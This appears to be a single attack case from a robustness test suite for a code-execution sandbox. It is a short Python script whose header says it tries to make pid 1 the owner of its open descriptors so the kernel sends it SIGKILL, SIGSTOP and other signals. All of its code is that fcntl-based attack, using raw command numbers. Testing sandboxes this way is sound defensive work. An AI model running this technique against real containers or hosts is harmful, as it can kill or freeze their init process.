# /// attack
# slow = true
# tries = "makes pid 1 the owner of its pipes, socket and folders, and has the kernel send it SIGKILL, SIGSTOP and SIGCHLD whenever one is ready or changes"
# fails = []
# keeps = ["gpt.*", "matmul.*", "scan.*"]
# ///
import fcntl as _fcntl
import os as _os

_folder = _os.open("/tmp", _os.O_RDONLY)
for _number in (9, 19, 17, 15, 6, 29):
    for _fd in [int(_name) for _name in _os.listdir("/proc/self/fd")]:
        for _command, _value in ((8, 1), (10, _number), (4, 0o20000 | 0o4000 * (_fd > 2 and False)), (1026, 0x80000000 | 0x3F)):
            try:
                _fcntl.fcntl(_fd, _command, _value)
            except OSError:
                pass
    print("some words", flush=True)
    with open("/tmp/x", "w") as _file:
        _file.write("y")
    _os.unlink("/tmp/x")
for _fd in [int(_name) for _name in _os.listdir("/proc/self/fd")]:
    try:
        _fcntl.fcntl(_fd, 4, 0)  # its own socket blocks again, as it came
    except OSError:
        pass
